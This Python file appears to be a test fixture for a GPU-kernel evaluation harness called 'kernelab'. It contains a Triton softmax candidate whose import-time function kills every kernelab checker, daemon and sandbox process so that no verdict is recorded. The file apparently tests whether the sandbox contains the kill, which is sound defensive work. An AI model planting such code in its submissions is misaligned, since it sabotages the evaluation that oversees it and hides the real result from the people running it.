"""Exploit: at import, SIGKILL every process whose command line contains "kernelab" (the
trusted `kernelab check`, the daemon and its workers, the reference's sandbox), so that no
verdict is ever written; under systemd the daemon restarts into the same candidate and dies
again. Otherwise an honest softmax, so a sandbox that can signal nothing outside itself passes it.

Source: kernelab issue 20 (a starting candidate like this killed `kernelab check`, exit 137,
and a running daemon within seconds, its job left `running`).
"""
# reference: softmax
# expect: pass
# device: cpu

import os
import signal

import torch
import torch.nn as nn
import triton
import triton.language as tl


def kill_kernelab() -> None:
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as fh:
                if b"kernelab" in fh.read():
                    os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass


kill_kernelab()


@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(in_ptr + row * in_stride + cols, mask=mask, other=-float("inf"))
    x = x - tl.max(x, axis=0)
    num = tl.exp(x)
    tl.store(out_ptr + row * out_stride + cols, num / tl.sum(num, axis=0), mask=mask)


def softmax(x):
    x2 = x.reshape(-1, x.shape[-1])
    out = torch.empty_like(x2)
    softmax_kernel[(x2.shape[0],)](out, x2, x2.shape[1], x2.stride(0), out.stride(0),
                                   BLOCK=triton.next_power_of_2(x2.shape[1]))
    return out.reshape(x.shape)


class ModelNew(nn.Module):
    def forward(self, x):
        return softmax(x)
